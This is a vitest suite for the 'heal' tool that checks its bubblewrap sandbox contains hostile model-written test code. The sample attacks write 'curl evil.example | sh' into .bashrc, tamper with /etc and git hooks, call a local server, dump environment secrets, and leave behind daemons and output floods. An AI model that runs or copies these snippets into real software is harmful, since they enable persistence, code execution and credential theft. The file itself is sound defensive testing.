import { execFileSync } from 'node:child_process';
import { createHash, randomUUID } from 'node:crypto';
import { chmodSync, existsSync, mkdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join, relative } from 'node:path';
import { describe, expect, it } from 'vitest';
import { createProcessRunner } from '../../src/adapters/process-runner.js';
import { detectSandbox } from '../../src/adapters/sandbox.js';
import { BuildReport } from '../../src/artefacts/build-report.js';
import type { CheckFailure } from '../../src/artefacts/commit-result.js';
import type { FixtureRepo } from '../helpers/fixture-repo.js';
import { healBranches } from '../helpers/loop-run.js';
import { commitFile, listFiles, prepareCase, readResult, runBounded, useCleanup, type HostileCase, type HostileRun } from './hostile-run.js';
import { createFile } from './patch-inputs.js';

/**
 * Model-written code that attacks the machine it runs on. Each case is a patch file (written outside
 * the repository) that adds `test/hostile.test.js` doing one hostile thing; `heal code --patch`
 * always counts as model-written, so its self-check runs that test inside the bubblewrap sandbox.
 * Every case checks the exit code and result, that the sandbox was on, the one containment fact the
 * case is about, and the shared oracle (the user's dirty tree, stash, refs, sentinel HOME, processes).
 */

const detection = await detectSandbox('auto', createProcessRunner());
const hasBwrap = detection.kind === 'bwrap';
/** What commit_result.json says of a sandboxed run here. */
const SANDBOX_ON = { status: 'on', reason: detection.kind === 'bwrap' ? `bubblewrap ${detection.version}` : '' };

const GOAL = 'hostile sandbox test';
const HOSTILE_TEST = 'test/hostile.test.js';
/** Generous: the infinite loop alone takes the build's 20 s limit, twice over is still a pass. */
const SANDBOXED_RUN_TIMEOUT_MS = 90_000;
const CASE_TIMEOUT_MS = 150_000;
const MB = 1024 * 1024;

const cleanup = useCleanup();

/** A fresh case: `setup` committed, then the user's work, then the oracle's record. */
function prepare(setup?: (fixture: FixtureRepo) => void): HostileCase {
  return prepareCase(cleanup, { setup });
}

/** `heal code --patch <file outside the repo> --json GOAL [extra flags]`, with the oracle's env and `env`. */
function runPatch(run: HostileCase, patch: string, options: { env?: Record<string, string>; flags?: readonly string[] } = {}): Promise<HostileRun> {
  const file = join(run.outside, `${randomUUID()}.diff`);
  writeFileSync(file, patch);
  return runBounded(['code', '--patch', file, ...(options.flags ?? []), '--json', GOAL], {
    cwd: run.fixture.dir,
    env: { ...run.oracle.env, ...options.env },
    timeoutMs: SANDBOXED_RUN_TIMEOUT_MS,
  });
}

/**
 * Exit 1, SOFT_FAIL: the patch applied, its self-check ran in the sandbox and came back with a new
 * failure, so nothing was committed. Returns that one new failure.
 */
function expectContainedFailure(run: HostileRun, fixture: FixtureRepo): CheckFailure {
  const result = readResult(run);
  expect(run.code, run.stderr).toBe(1);
  expect(result).toMatchObject({ status: 'SOFT_FAIL', stop_reason: 'max-attempts', commit_sha: null, branch_name: null, engine: 'patch-file' });
  expect(result.sandbox).toEqual(SANDBOX_ON);
  expect(result.baseline).toEqual({ status: 'PASSED', failures: 0 });
  expect(result.attempts).toHaveLength(1);
  const attempt = result.attempts[0];
  expect(attempt?.result, JSON.stringify(attempt)).toBe('check-failed');
  expect(attempt?.new_failures, JSON.stringify(attempt?.new_failures)).toHaveLength(1);
  expect(healBranches(fixture)).toEqual([]);
  expect(fixture.git('worktree', 'list', '--porcelain').match(/^worktree /gm)).toHaveLength(1);
  const failure = attempt?.new_failures[0];
  if (!failure) throw new Error(`no new failure recorded: ${JSON.stringify(result)}`);
  return failure;
}

/** The self-check report of the run's one attempt, read from where commit_result.json says it is. */
function readCheckReport(run: HostileRun, fixture: FixtureRepo): BuildReport {
  const file = readResult(run).attempts[0]?.check_report;
  if (!file) throw new Error('the attempt names no check report');
  return BuildReport.parse(JSON.parse(readFileSync(join(fixture.dir, file), 'utf8')));
}

/** The hostile test's own failure: it ran, and its message says what it saw inside the sandbox. */
function expectHostileTestFailed(failure: CheckFailure, name: string): string {
  expect(failure).toMatchObject({ kind: 'test', id: `${HOSTILE_TEST}::${name}` });
  return failure.message;
}

const sha = (data: string | Buffer) => createHash('sha256').update(data).digest('hex');

/** Checksums of every file under `dir` (and of a single file), by relative path. */
function checksums(root: string, paths: readonly string[]): Record<string, string> {
  const sums: Record<string, string> = {};
  for (const path of paths) {
    const absolute = join(root, path);
    const files = statSync(absolute).isDirectory() ? listFiles(absolute) : [absolute];
    for (const file of files) sums[relative(root, file)] = sha(readFileSync(file));
  }
  return sums;
}

/** PIDs of live processes whose command line holds `marker`. */
function survivors(marker: string): string[] {
  try {
    return execFileSync('pgrep', ['-af', marker], { encoding: 'utf8' }).trim().split('\n');
  } catch {
    return [];
  }
}

// The hostile tests. Each patch adds one node:test file; each test ends by throwing a message that
// says what it managed, so the case can tell the test really ran in the sandbox.

/** A patch adding `test/hostile.test.js` with these lines. */
const hostileTest = (lines: readonly string[]) => createFile(HOSTILE_TEST, lines);

function writesHome(): string {
  return hostileTest([
    'import { test } from "node:test";',
    'import { readFileSync, writeFileSync } from "node:fs";',
    'import { homedir } from "node:os";',
    '',
    'test("writes to home", () => {',
    '  let before;',
    '  try {',
    '    before = readFileSync(`${process.env.HOME}/.bashrc`, "utf8").trim();',
    '  } catch (error) {',
    '    before = error.code;',
    '  }',
    '  writeFileSync(`${process.env.HOME}/.bashrc`, "curl evil.example | sh\\n");',
    '  writeFileSync(`${homedir()}/owned`, "owned\\n");',
    '  const after = readFileSync(`${homedir()}/owned`, "utf8").trim();',
    '  throw new Error(`home ${process.env.HOME}: .bashrc before ${before}; wrote .bashrc and owned, read back ${after}`);',
    '});',
  ]);
}

function writesEtc(name: string): string {
  return hostileTest([
    'import { test } from "node:test";',
    'import { writeFileSync } from "node:fs";',
    '',
    'test("writes to /etc", () => {',
    '  let outcome = "written";',
    '  try {',
    `    writeFileSync("/etc/${name}", "owned\\n");`,
    '  } catch (error) {',
    '    outcome = error.code;',
    '  }',
    '  throw new Error(`/etc: ${outcome}`);',
    '});',
  ]);
}

function phonesHome(port: number): string {
  return hostileTest([
    'import { test } from "node:test";',
    'import { connect } from "node:net";',
    '',
    'function tcp() {',
    '  return new Promise((resolve) => {',
    `    const socket = connect(${port}, "127.0.0.1");`,
    '    socket.on("connect", () => {',
    '      socket.end("GET /tcp HTTP/1.0\\r\\n\\r\\n");',
    '      resolve("connected");',
    '    });',
    '    socket.on("error", (error) => resolve(error.code));',
    '  });',
    '}',
    '',
    'test("phones home", async () => {',
    '  let fetched;',
    '  try {',
    `    fetched = \`status \${(await fetch("http://127.0.0.1:${port}/fetch")).status}\`;`,
    '  } catch (error) {',
    '    fetched = error.cause?.code ?? error.message;',
    '  }',
    '  throw new Error(`fetch: ${fetched}; connect: ${await tcp()}`);',
    '});',
  ]);
}

function dumpsEnvironment(): string {
  return hostileTest([
    'import { test } from "node:test";',
    '',
    'test("reads the environment", () => {',
    '  // Names and values apart, so no key=value pair gives a redactor a hint.',
    '  const names = Object.keys(process.env).sort().join(",");',
    '  const values = Object.values(process.env).join(" ");',
    '  throw new Error(`env names: ${names} | values: ${values}`);',
    '});',
  ]);
}

function editsGitDirs(): string {
  return hostileTest([
    'import { test } from "node:test";',
    'import { execFileSync } from "node:child_process";',
    'import { appendFileSync, existsSync, readFileSync, statSync, writeFileSync } from "node:fs";',
    'import { dirname, join, resolve } from "node:path";',
    '',
    'function gitDirs() {',
    '  const found = new Set();',
    '  for (let dir = process.cwd(); ; dir = dirname(dir)) {',
    '    const dotGit = join(dir, ".git");',
    '    if (existsSync(dotGit) && statSync(dotGit).isDirectory()) found.add(dotGit);',
    '    else if (existsSync(dotGit)) {',
    '      const gitDir = resolve(dir, /^gitdir: (.*)$/m.exec(readFileSync(dotGit, "utf8"))[1].trim());',
    '      found.add(gitDir);',
    '      found.add(resolve(gitDir, readFileSync(join(gitDir, "commondir"), "utf8").trim()));',
    '    }',
    '    if (dirname(dir) === dir) break;',
    '  }',
    '  found.add(resolve(execFileSync("git", ["rev-parse", "--git-common-dir"], { encoding: "utf8" }).trim()));',
    '  return [...found];',
    '}',
    '',
    'function attempt(what, write) {',
    '  try {',
    '    write();',
    '    return `${what}: took`;',
    '  } catch (error) {',
    '    return `${what}: ${error.code ?? "refused"}`;',
    '  }',
    '}',
    '',
    'test("edits git hooks and config", () => {',
    '  const dirs = gitDirs();',
    '  const outcomes = dirs.flatMap((dir) => [',
    '    attempt(`${dir}/hooks/pre-commit`, () => writeFileSync(join(dir, "hooks", "pre-commit"), "#!/bin/sh\\necho owned\\n", { mode: 0o755 })),',
    '    attempt(`${dir}/config`, () => appendFileSync(join(dir, "config"), "[core]\\n\\thooksPath = /tmp/owned\\n")),',
    '  ]);',
    '  outcomes.push(attempt("git config core.hooksPath", () => execFileSync("git", ["config", "core.hooksPath", "/tmp/owned"], { stdio: "pipe" })));',
    '  const took = outcomes.filter((outcome) => outcome.endsWith(": took"));',
    '  throw new Error(`git dirs: ${dirs.length}; writes that took: ${took.length}; ${outcomes.join("; ")}`);',
    '});',
  ]);
}

function loopsForever(): string {
  return hostileTest(['import { test } from "node:test";', '', 'test("never ends", () => {', '  while (true) {}', '});']);
}

/**
 * Two daemons carrying `marker` in their argv, both detached and unref'd: a `sh` (as `$0`) waiting on
 * `sleep 300`, and a node left behind by a `sh` that exits at once. The test waits until both run.
 */
function leavesDaemons(marker: string): string {
  return hostileTest([
    'import { test } from "node:test";',
    'import { spawn } from "node:child_process";',
    'import { readdirSync, readFileSync } from "node:fs";',
    'import { setTimeout as sleep } from "node:timers/promises";',
    '',
    `const MARKER = "${marker}";`,
    '',
    'function daemons() {',
    '  const found = [];',
    '  for (const pid of readdirSync("/proc").filter((name) => /^\\d+$/.test(name))) {',
    '    try {',
    '      const cmdline = readFileSync(`/proc/${pid}/cmdline`, "utf8").replaceAll("\\0", " ");',
    '      if (cmdline.includes(MARKER) && cmdline.includes("sleep 300 & wait")) found.push("sh");',
    '      if (cmdline.includes(MARKER) && cmdline.includes("setInterval")) found.push("node");',
    '    } catch {}',
    '  }',
    '  return found.sort().join(" and ");',
    '}',
    '',
    'test("leaves daemons behind", async () => {',
    '  spawn("sh", ["-c", "sleep 300 & wait", MARKER], { detached: true, stdio: "ignore" }).unref();',
    '  const orphan = \'"$0" -e "setInterval(() => {}, 1000)" "$1" &\';',
    '  spawn("sh", ["-c", orphan, process.execPath, MARKER], { detached: true, stdio: "ignore" }).unref();',
    '  for (let tries = 0; tries < 100 && daemons() !== "node and sh"; tries += 1) await sleep(50);',
    '  throw new Error(`daemons up: ${daemons()}`);',
    '});',
  ]);
}

function floodsStdout(megabytes: number): string {
  return hostileTest([
    'import { test } from "node:test";',
    'import { once } from "node:events";',
    '',
    'test("floods stdout", async () => {',
    '  const chunk = `${"x".repeat(1024 * 1024 - 1)}\\n`;',
    `  for (let written = 0; written < ${megabytes}; written += 1) {`,
    '    if (!process.stdout.write(chunk)) await once(process.stdout, "drain");',
    '  }',
    `  throw new Error("wrote ${megabytes} MB to stdout");`,
    '});',
  ]);
}

/** A harmless, passing test: what runs when the sandbox is turned off. */
function addsPassingTest(): string {
  return hostileTest([
    'import { test } from "node:test";',
    'import assert from "node:assert/strict";',
    'import { formatPrice } from "../src/format.js";',
    '',
    'test("formatPrice shows whole dollars", () => {',
    '  assert.equal(formatPrice(300), "$3.00");',
    '});',
  ]);
}

describe.skipIf(!hasBwrap)('model-written code writing outside its worktree', () => {
  it('writes to $HOME land in a private tmpfs: the sentinel HOME stays byte-identical', async () => {
    const run = prepare();
    const outcome = await runPatch(run, writesHome());
    const failure = expectContainedFailure(outcome, run.fixture);
    expect(expectHostileTestFailed(failure, 'writes to home')).toBe(`home ${run.oracle.sentinel}: .bashrc before ENOENT; wrote .bashrc and owned, read back owned`);
    expect(readFileSync(join(run.oracle.sentinel, '.bashrc'), 'utf8')).toBe('export SENTINEL=1\n');
    expect(existsSync(join(run.oracle.sentinel, 'owned'))).toBe(false);
    run.oracle.assertNothingLost();
  });

  it('cannot write /etc, even as root: the file never exists', async () => {
    const name = `heal-owned-${randomUUID()}`;
    const run = prepare();
    const outcome = await runPatch(run, writesEtc(name));
    const failure = expectContainedFailure(outcome, run.fixture);
    expect(expectHostileTestFailed(failure, 'writes to /etc')).toBe('/etc: EROFS');
    expect(existsSync(join('/etc', name))).toBe(false);
    run.oracle.assertNothingLost();
  });

  it("cannot touch the git hooks or config of the checkout or of heal's worktree", async () => {
    const run = prepare();
    const gitDir = join(run.fixture.dir, '.git');
    const guarded = ['hooks', 'config'];
    const before = checksums(gitDir, guarded);
    const outcome = await runPatch(run, editsGitDirs());
    const failure = expectContainedFailure(outcome, run.fixture);
    const message = expectHostileTestFailed(failure, 'edits git hooks and config');
    // The worktree's admin dir (which has no hooks folder) and the common dir, a hook and a config each, and git config.
    expect(message).toMatch(/^git dirs: 2; writes that took: 0; /);
    expect(message.split('; ').slice(2)).toEqual([
      expect.stringMatching(/\/\.git\/worktrees\/[^/]+\/hooks\/pre-commit: ENOENT$/),
      expect.stringMatching(/\/\.git\/worktrees\/[^/]+\/config: EROFS$/),
      `${gitDir}/hooks/pre-commit: EROFS`,
      `${gitDir}/config: EROFS`,
      'git config core.hooksPath: refused',
    ]);
    expect(checksums(gitDir, guarded)).toEqual(before);
    expect(existsSync(join(gitDir, 'hooks', 'pre-commit'))).toBe(false);
    run.oracle.assertNothingLost();
  });
});

describe.skipIf(!hasBwrap)('model-written code reaching out', () => {
  it('cannot reach a canary server on 127.0.0.1, by fetch or by TCP', async () => {
    const seen: string[] = [];
    const server = createServer((request, response) => {
      seen.push(`${request.method} ${request.url}`);
      response.end('owned');
    });
    server.on('connection', () => seen.push('connection'));
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    cleanup.afterCase(() => new Promise((resolve) => server.close(() => resolve())));
    const { port } = server.address() as AddressInfo;
    const run = prepare();
    const outcome = await runPatch(run, phonesHome(port));
    const failure = expectContainedFailure(outcome, run.fixture);
    expect(expectHostileTestFailed(failure, 'phones home')).toBe('fetch: ECONNREFUSED; connect: ECONNREFUSED');
    expect(seen).toEqual([]);
    run.oracle.assertNothingLost();
  });

  it("never sees heal's API keys: not in its environment, heal's output or any file under .heal/", async () => {
    const canaries = { OPENAI_API_KEY: `canaryopenai${randomUUID().replaceAll('-', '')}`, HEAL_TEST_API_KEY: `canaryheal${randomUUID().replaceAll('-', '')}` };
    const run = prepare();
    const outcome = await runPatch(run, dumpsEnvironment(), { env: canaries });
    const failure = expectContainedFailure(outcome, run.fixture);
    const message = expectHostileTestFailed(failure, 'reads the environment');
    const names = /^env names: (\S*) \| values: /.exec(message)?.[1]?.split(',') ?? [];
    expect(names, message).toContain('PATH');
    expect(names).toContain('HOME');
    expect(names.filter((name) => /KEY|TOKEN|SECRET|HEAL_ORACLE_TAG/.test(name))).toEqual([]);
    const files = listFiles(join(run.fixture.dir, '.heal'));
    expect(files.length).toBeGreaterThan(0);
    for (const value of Object.values(canaries)) {
      expect(outcome.stdout).not.toContain(value);
      expect(outcome.stderr).not.toContain(value);
      for (const file of files) expect(readFileSync(file).includes(value), `${value} found in ${file}`).toBe(false);
    }
    run.oracle.assertNothingLost();
  });
});

describe.skipIf(!hasBwrap)('model-written code that will not stop', () => {
  it(
    'an infinite loop is killed at the build timeout; heal ends with SOFT_FAIL and nothing survives',
    async () => {
      const run = prepare((fixture) => commitFile(fixture, '.healrc.yaml', 'build:\n  timeout_sec: 20\n'));
      const outcome = await runPatch(run, loopsForever());
      const failure = expectContainedFailure(outcome, run.fixture);
      expect(failure).toEqual({ kind: 'step', id: 'test:node-test', message: "test step (node-test) timed out after the build's 20 s limit" });
      expect(readCheckReport(outcome, run.fixture)).toMatchObject({ status: 'ERRORED', fail_reason: 'timeout' });
      run.oracle.assertNothingLost();
    },
    CASE_TIMEOUT_MS,
  );

  it('daemons it leaves behind die with the sandbox', async () => {
    const marker = `heal-daemon-${randomUUID()}`;
    const run = prepare();
    const outcome = await runPatch(run, leavesDaemons(marker));
    const failure = expectContainedFailure(outcome, run.fixture);
    expect(expectHostileTestFailed(failure, 'leaves daemons behind')).toBe('daemons up: node and sh');
    expect(survivors(marker)).toEqual([]);
    run.oracle.assertNothingLost();
  });

  it(
    'a 200 MB stdout flood is capped: heal finishes and keeps no file over 16 MB, the log marked as truncated',
    async () => {
      const run = prepare();
      const outcome = await runPatch(run, floodsStdout(200));
      const failure = expectContainedFailure(outcome, run.fixture);
      expect(expectHostileTestFailed(failure, 'floods stdout')).toBe('wrote 200 MB to stdout');
      const files = listFiles(join(run.fixture.dir, '.heal'));
      expect(files.filter((file) => statSync(file).size > 16 * MB)).toEqual([]);
      run.oracle.assertNothingLost();
      // The self-check's report names the test step's log (relative to the repository): it must be
      // there to read after the run, capped, with heal's marker where the middle was dropped.
      const logFile = readCheckReport(outcome, run.fixture).steps.find((step) => step.kind === 'test')?.log_file ?? '';
      expect(existsSync(join(run.fixture.dir, logFile)), `the test step's log ${logFile} is gone after the run`).toBe(true);
      const log = readFileSync(join(run.fixture.dir, logFile), 'utf8');
      expect(log).toMatch(/\[… truncated \d+ bytes by heal …\]/);
      expect(statSync(join(run.fixture.dir, logFile)).size).toBeLessThanOrEqual(11 * MB);
    },
    CASE_TIMEOUT_MS,
  );
});

describe('when the sandbox cannot start', () => {
  /** A `bwrap` first on PATH that fails as it does where user namespaces are refused, logging each call. */
  function fakeBwrap(outside: string): { path: string; calls: string } {
    const bin = join(outside, 'bin');
    mkdirSync(bin);
    const calls = join(outside, 'bwrap-calls.log');
    writeFileSync(join(bin, 'bwrap'), `#!/bin/sh\necho "$*" >> '${calls}'\necho 'bwrap: setting up uid map: Permission denied' >&2\nexit 1\n`);
    chmodSync(join(bin, 'bwrap'), 0o755);
    return { path: `${bin}:${process.env.PATH ?? '/usr/bin:/bin'}`, calls };
  }

  it('refuses with exit 6 naming --no-sandbox, runs nothing; --no-sandbox runs it unsandboxed and says so', async () => {
    const run = prepare();
    const bwrap = fakeBwrap(run.outside);
    const refused = await runPatch(run, addsPassingTest(), { env: { PATH: bwrap.path } });
    expect(refused.code, refused.stderr).toBe(6);
    expect(refused.stdout).toBe('');
    expect(refused.stderr.trimEnd().split('\n')).toEqual([
      'heal: sandbox: bwrap cannot start here: bwrap: setting up uid map: Permission denied; heal will not run model-written code unsandboxed: install bubblewrap, or pass --no-sandbox to accept the risk',
    ]);
    // heal only probed bubblewrap (its version, then `true`); the patch's test never ran.
    const calls = readFileSync(bwrap.calls, 'utf8').trimEnd().split('\n');
    expect(calls[0]).toBe('--version');
    expect(calls.slice(1)).toEqual([expect.stringMatching(/ -- true$/)]);
    expect(healBranches(run.fixture)).toEqual([]);
    expect(existsSync(join(run.fixture.dir, '.heal', 'runs'))).toBe(false);
    expect(existsSync(join(run.fixture.dir, '.heal', 'commit_result.json'))).toBe(false);
    run.oracle.assertNothingLost();

    const unsandboxed = await runPatch(run, addsPassingTest(), { env: { PATH: bwrap.path }, flags: ['--no-sandbox'] });
    const result = readResult(unsandboxed);
    expect(unsandboxed.code, unsandboxed.stderr).toBe(0);
    expect(result).toMatchObject({ status: 'SUCCESS', stop_reason: 'committed' });
    expect(result.sandbox).toEqual({ status: 'off', reason: 'turned off by --no-sandbox' });
    expect(unsandboxed.stderr.split('\n')).toContain('heal: warning: model-written code runs unsandboxed (turned off by --no-sandbox)');
    expect(healBranches(run.fixture)).toEqual([result.branch_name]);
    expect(readFileSync(bwrap.calls, 'utf8').trimEnd().split('\n')).toEqual(calls);
    run.oracle.assertNothingLost();
  });

  it('refuses HEAL_SANDBOX=bogus with exit 2 and one line naming HEAL_SANDBOX', async () => {
    const run = prepare();
    const outcome = await runPatch(run, addsPassingTest(), { env: { HEAL_SANDBOX: 'bogus' } });
    expect(outcome.code, outcome.stderr).toBe(2);
    expect(outcome.stdout).toBe('');
    expect(outcome.stderr).toBe('heal: HEAL_SANDBOX must be one of auto, bwrap, none (got "bogus")\n');
    expect(healBranches(run.fixture)).toEqual([]);
    expect(existsSync(join(run.fixture.dir, '.heal', 'runs'))).toBe(false);
    run.oracle.assertNothingLost();
  });
});
